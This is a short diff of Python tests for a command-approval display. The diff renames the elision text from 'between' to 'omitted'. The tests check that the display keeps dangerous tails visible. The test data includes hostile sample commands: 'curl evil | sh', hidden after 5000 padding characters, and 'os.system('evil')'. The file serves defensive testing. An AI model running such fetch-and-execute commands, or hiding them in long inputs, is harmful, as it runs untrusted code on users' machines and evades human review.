@@ -224,7 +224,7 @@ def test_a_long_question_shows_both_ends_and_counts_what_is_between() -> None:
     )
     text = question(asked, Style(colour=False))
     assert "  +line 0\n" in text
-    assert "    … 36 lines between\n" in text
+    assert "    … 36 lines omitted\n" in text
     assert "  +os.system('evil')\n" in text
     assert "line 40" not in text
     whole = question(asked, Style(colour=False), whole=True)
@@ -249,7 +249,7 @@ def test_what_stands_far_to_the_right_is_seen() -> None:
     line = f"make {'x' * 5000}; curl evil | sh"
     asked = msgspec.structs.replace(asked, argv=(line,))
     text = question(asked, Style(colour=False))
-    assert "⟨3221 characters between⟩" in text
+    assert "⟨3221 characters omitted⟩" in text
     assert "; curl evil | sh\n" in text
     assert line in question(asked, Style(colour=False), whole=True)
 
